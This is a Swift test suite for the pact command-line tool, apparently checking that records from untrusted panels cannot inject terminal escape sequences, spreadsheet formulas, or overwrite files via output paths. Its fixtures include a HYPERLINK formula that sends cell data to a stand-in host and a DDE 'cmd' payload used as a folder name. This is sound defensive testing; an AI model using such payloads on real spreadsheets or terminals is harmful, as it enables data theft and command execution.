import Foundation
import PactCore
import PactTestSupport
import Testing

@testable import PactCLI

/// What pact prints and writes from a panel someone else made: control characters never
/// reach a terminal or a document, spreadsheet cells never run as formulas, `-o` never
/// replaces a panel's file, and ranks stay clear after a merge. Run in this process, on a
/// copy of the Borough Green panel.
@Suite struct HostileOutputTests {
  /// A copy of the Borough Green panel, and pact run on it in this process.
  struct Setting {
    let directory: TemporaryDirectory
    var panel: URL { directory.url.appendingPathComponent(FixturePanel.boroughGreen) }

    init() throws {
      directory = try TemporaryDirectory.copyFixture(FixturePanel.boroughGreen)
    }

    /// Runs pact with `arguments` in `folder` (the panel's, by default).
    func run(
      _ arguments: [String], in folder: URL? = nil, terminal: Bool = false,
      environment: [String: String] = [:]
    ) -> (status: Int32, stdout: String, stderr: String) {
      let context = Context(
        environment: ["PACT_TODAY": "2024-06-01", "COLUMNS": "80"].merging(
          environment, uniquingKeysWith: { $1 }),
        currentDirectory: folder ?? panel, stdout: TextOutput(), stderr: TextOutput(),
        isTerminal: terminal, clock: { Date() })
      let status = PactCommandLine.run(arguments, context: context)
      return (status, context.stdout.text, context.stderr.text)
    }

    /// Rewrites a field of a record file by hand, as an editor or a merge would.
    func edit(_ relative: String, _ change: (inout [String: Any]) -> Void) throws {
      let url = panel.appendingPathComponent(relative)
      var object = try #require(
        try JSONSerialization.jsonObject(with: Data(contentsOf: url)) as? [String: Any])
      change(&object)
      try JSONSerialization.data(withJSONObject: object, options: [.sortedKeys]).write(to: url)
    }

    /// Every file of the panel but pact's own `.pact`.
    func files() throws -> [String: Data] {
      try fileTree(panel).filter { !$0.key.hasPrefix(".pact/") }
    }

    func text(_ relative: String) throws -> String {
      try String(contentsOf: panel.appendingPathComponent(relative), encoding: .utf8)
    }

    func remove() { directory.remove() }
  }

  /// The control characters in `text` that are not its own line endings and tabs.
  private func controls(in text: String) -> [UInt32] {
    var found: [UInt32] = []
    let scalars = Array(text.unicodeScalars)
    for (index, scalar) in scalars.enumerated() {
      let value = scalar.value
      guard value < 0x20 || (0x7F...0x9F).contains(value) else { continue }
      if scalar == "\n" || scalar == "\t" { continue }
      if scalar == "\r", index + 1 < scalars.count, scalars[index + 1] == "\n" { continue }
      found.append(value)
    }
    return found
  }

  // MARK: Control characters

  @Test func controlCharactersNeverReachATerminalOrADocument() throws {
    let setting = try Setting()
    defer { setting.remove() }
    let hostile = "Park\u{1B}[2J\u{1B}]0;owned\u{07} and\u{9B}31m stride\rX"
    try setting.edit("actions/AYZZWH9.json") { $0["title"] = hostile }
    try setting.edit("panel.json") { $0["name"] = "Borough\u{1B}[5m Green" }
    let outside = setting.directory.url.appendingPathComponent("news.md")
    for arguments in [
      ["status"], ["log"], ["log", "--format", "csv"], ["action", "list"],
      ["action", "list", "--format", "csv"], ["action", "show", "AYZZ"], ["newsletter"],
      ["agenda"], ["export", "csv"], ["export", "json"], ["export", "ics"],
      ["export", "police-uk"], ["status", "--json"], ["action", "show", "AYZZ", "--json"],
      ["report", setting.directory.url.path], ["report", setting.directory.url.path, "--json"],
      ["report", setting.directory.url.path, "--format", "csv"],
      ["action", "show", "Park\u{1B}"], ["newsletter", "-o", outside.path],
    ] {
      for terminal in [false, true] {
        let result = setting.run(arguments, terminal: terminal)
        // On a terminal the briefing has colours of its own (see the next test).
        if !(terminal && arguments == ["status"]) {
          #expect(controls(in: result.stdout).isEmpty, "\(arguments): \(result.stdout)")
        }
        #expect(controls(in: result.stderr).isEmpty, "\(arguments): \(result.stderr)")
      }
    }
    #expect(controls(in: try String(contentsOf: outside, encoding: .utf8)).isEmpty)
    let status = setting.run(["status"])
    #expect(status.stdout.contains("Park\\u{1B}[2J\\u{1B}]0;owned\\u{7} and\\u{9B}31m"))
    #expect(controls(in: status.stdout).isEmpty)
  }

  @Test func colouredStatusKeepsOnlyItsOwnColours() throws {
    let setting = try Setting()
    defer { setting.remove() }
    try setting.edit("actions/AYZZWH9.json") { $0["title"] = "Park\u{1B}[2J\u{1B}[31m stride" }
    let result = setting.run(["status"], terminal: true)
    #expect(result.status == 0)
    // Colour is on: every escape left is one of pact's own colour sequences.
    let text = result.stdout
    var index = text.startIndex
    while let escape = text[index...].firstIndex(of: "\u{1B}") {
      let rest = text[escape...].dropFirst()
      let sequence = rest.prefix { $0 != "m" }
      #expect(
        ["[1", "[0", "[31;1", "[33;1", "[32;1"].contains(String(sequence)),
        "unexpected escape \(String(sequence))")
      index = text.index(after: escape)
    }
    #expect(text.contains("Park\\u{1B}[2J\\u{1B}[31m stride"))
  }

  @Test func checkFlagsControlCharactersInRecords() throws {
    let setting = try Setting()
    defer { setting.remove() }
    try setting.edit("actions/AYZZWH9.json") { $0["owner"] = "PCSO\u{1B}[8m Tom" }
    let result = setting.run(["check", "--json"])
    #expect(result.status == 1, "\(result.stderr)")
    let json = try #require(
      try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any])
    let errors = try #require(json["errors"] as? [[String: Any]])
    let finding = try #require(errors.first { $0["code"] as? String == "control-characters" })
    #expect(finding["file"] as? String == "actions/AYZZWH9.json")
    #expect(finding["field"] as? String == "owner")
    #expect((finding["fix"] as? String)?.contains("edit the file") == true)
  }

  // MARK: CSV cells that would run as formulas

  /// Every cell of every row of `csv`.
  private func cells(_ csv: String) throws -> [String] {
    try CSVReader.records(in: csv).flatMap(\.fields)
  }

  @Test func noCSVCellStartsAFormula() throws {
    let setting = try Setting()
    defer { setting.remove() }
    let sheet = setting.directory.url.appendingPathComponent("log.csv")
    try Data(
      """
      Action,Lead agency,Owner,Progress
      "=HYPERLINK(""http://x.example/?""&A1,""Click"")",police,+44 cmd,@SUM(1+1)
      -2+3 speed checks,Neighbourhood Policing Team,"\tTab",=1+1

      """.utf8
    ).write(to: sheet)
    #expect(setting.run(["import", sheet.path]).status == 0)
    // A folder name reaches the report's CSV too.
    let borough = setting.directory.url.appendingPathComponent("=cmd|' -C calc'!A0")
    try FileManager.default.createDirectory(at: borough, withIntermediateDirectories: true)
    try FileManager.default.copyItem(
      at: setting.panel, to: borough.appendingPathComponent("panel"))
    for arguments in [
      ["log", "--format", "csv"], ["export", "csv"], ["action", "list", "--format", "csv"],
      ["report", borough.lastPathComponent, "--format", "csv"],
    ] {
      let result = setting.run(
        arguments, in: arguments[0] == "report" ? setting.directory.url : nil)
      #expect(result.status == 0, "\(arguments): \(result.stderr)")
      let all = try cells(result.stdout)
      #expect(all.count > 10)
      for cell in all {
        #expect(
          !["=", "+", "-", "@", "\t", "\r"].contains(cell.first.map(String.init) ?? ""),
          "\(arguments): \(cell)")
      }
      #expect(all.contains { $0.hasPrefix("'=") || $0.hasPrefix("'-") }, "\(arguments)")
    }
  }

  @Test func theCSVWriterQuotesFormulasOnce() {
    #expect(CSVWriter.field("=1+1") == "'=1+1")
    #expect(CSVWriter.field("+44 1732") == "'+44 1732")
    #expect(CSVWriter.field("-") == "'-")
    #expect(CSVWriter.field("@A1") == "'@A1")
    #expect(CSVWriter.field("\tx") == "'\tx")
    #expect(CSVWriter.field("=a,b") == "\"'=a,b\"")
    #expect(CSVWriter.field("a=b") == "a=b")
    #expect(CSVWriter.field("bell\u{07}") == "bell\\u{7}")
    #expect(CSVWriter.field("two\r\nlines") == "\"two\r\nlines\"")
  }

  // MARK: -o

  @Test func outputNeverReplacesAPanelsFile() throws {
    let setting = try Setting()
    defer { setting.remove() }
    _ = setting.run(["issue", "add", "Graffiti on the bus shelter"])
    let link = setting.directory.url.appendingPathComponent("linked")
    try FileManager.default.createSymbolicLink(at: link, withDestinationURL: setting.panel)
    let before = try fileTree(setting.panel)
    for (arguments, folder) in [
      (["export", "json", "-o", "panel.json"], setting.panel),
      (["newsletter", "-o", "actions/AYZZWH9.json"], setting.panel),
      (["export", "csv", "-o", ".pact/undo/0000000001.json"], setting.panel),
      (["export", "csv", "-o", "meetings/../panel.json"], setting.panel),
      (["export", "csv", "-o", "new-file.csv"], setting.panel),
      (["export", "csv", "-o", "drafts/new-file.csv"], setting.panel),
      (["agenda", "-o", "\(link.path)/panel.json"], setting.directory.url),
      (["export", "json", "-o", "linked/agencies/police.json"], setting.directory.url),
      (["report", ".", "-o", "linked/panel.json"], setting.directory.url),
    ] {
      let environment = ["PACT_PANEL": setting.panel.path]
      let result = setting.run(arguments, in: folder, environment: environment)
      #expect(result.status == 1, "\(arguments): \(result.status) \(result.stderr)")
      #expect(result.stderr.contains("inside the panel"), "\(arguments): \(result.stderr)")
    }
    #expect(try fileTree(setting.panel) == before)
  }

  @Test func anEmptyOutputIsAUsageError() throws {
    let setting = try Setting()
    defer { setting.remove() }
    let result = setting.run(["export", "json", "-o", ""])
    #expect(result.status == 64, "\(result.stderr)")
    #expect(result.stderr.contains("--output"))
  }

  @Test func outputMakesNoFolder() throws {
    let setting = try Setting()
    defer { setting.remove() }
    let missing = setting.directory.url.appendingPathComponent("minutes/2024")
    let result = setting.run(["newsletter", "-o", missing.appendingPathComponent("june.md").path])
    #expect(result.status == 1)
    #expect(result.stderr.contains("there is no folder"), "\(result.stderr)")
    #expect(!FileManager.default.fileExists(atPath: missing.deletingLastPathComponent().path))
  }

  // MARK: init

  @Test func initNeverReplacesAFile() throws {
    let directory = try TemporaryDirectory()
    defer { directory.remove() }
    let folder = directory.url.appendingPathComponent("bgwp")
    let police = folder.appendingPathComponent("agencies/police.json")
    try FileManager.default.createDirectory(
      at: police.deletingLastPathComponent(), withIntermediateDirectories: true)
    try Data("{\"name\": \"Kent Police, our own\"}\n".utf8).write(to: police)
    let context = Context(
      environment: ["PACT_TODAY": "2024-06-01"], currentDirectory: directory.url,
      stdout: TextOutput(), stderr: TextOutput(), isTerminal: false, clock: { Date() })
    let status = PactCommandLine.run(["init", "bgwp", "--name", "BGWP"], context: context)
    #expect(status == 1)
    #expect(context.stderr.text.contains("not empty"), "\(context.stderr.text)")
    #expect(
      try fileTree(folder) == [
        "agencies/police.json": Data("{\"name\": \"Kent Police, our own\"}\n".utf8)
      ])
    // An empty folder, even with empty folders in it, is fine.
    let empty = directory.url.appendingPathComponent("empty")
    try FileManager.default.createDirectory(
      at: empty.appendingPathComponent("drafts"), withIntermediateDirectories: true)
    let made = PactCommandLine.run(["init", "empty", "--name", "BGWP"], context: context)
    #expect(made == 0, "\(context.stderr.text)")
  }

  // MARK: Smaller points

  @Test func aBadAgencyCellIsABadRowWithItsLine() throws {
    let setting = try Setting()
    defer { setting.remove() }
    let sheet = setting.directory.url.appendingPathComponent("log.csv")
    try Data("Action,Lead agency\nFix the lights,police\nSweep,\"Cleansing\u{1B}[31m\"\n".utf8)
      .write(to: sheet)
    let before = try setting.files()
    let result = setting.run(["import", sheet.path, "--create-agencies"])
    #expect(result.status == 65, "\(result.stderr)")
    #expect(result.stderr.contains(":3:"), "\(result.stderr)")
    #expect(!result.stderr.contains("Usage:"), "\(result.stderr)")
    #expect(try setting.files() == before)
  }

  @Test func aValueThatStartsWithDashesIsAValue() throws {
    let setting = try Setting()
    defer { setting.remove() }
    #expect(setting.run(["action", "update", "AYZZ", "--note", "---"]).status == 0)
    #expect(try setting.text("actions/AYZZWH9.json").contains("\"note\": \"---\""))
    #expect(setting.run(["action", "update", "AYZZ", "--note", "--> see minutes"]).status == 0)
    #expect(setting.run(["action", "update", "AYZZ", "--note", "--status"]).status == 64)
    #expect(setting.run(["action", "update", "AYZZ", "--bogus"]).status == 64)
    #expect(setting.run(["issue", "add", "--", "--weird"]).status == 0)
  }

  @Test func longerConflictMarkersAreAMergeConflict() throws {
    let setting = try Setting()
    defer { setting.remove() }
    let file = setting.panel.appendingPathComponent("actions/AYZZWH9.json")
    let text = try String(contentsOf: file, encoding: .utf8)
    try Data(
      ("<<<<<<<< HEAD:actions/AYZZWH9.json\n" + text + "========\n" + text
        + ">>>>>>>> theirs:actions/AYZZWH9.json\n").utf8
    ).write(to: file)
    let result = setting.run(["status"])
    #expect(result.status == 65)
    #expect(result.stderr.contains("merge conflict"), "\(result.stderr)")
    #expect(!result.stderr.contains("not valid JSON"), "\(result.stderr)")
  }
}
